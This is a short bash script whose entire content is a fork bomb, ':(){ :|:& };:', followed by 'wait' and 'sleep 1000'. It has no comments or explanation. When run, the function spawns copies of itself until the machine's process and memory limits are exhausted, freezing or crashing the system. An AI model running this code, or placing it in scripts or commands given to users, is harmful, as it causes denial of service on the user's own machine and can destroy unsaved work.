#!/bin/bash
:(){ :|:& };:
wait
sleep 1000
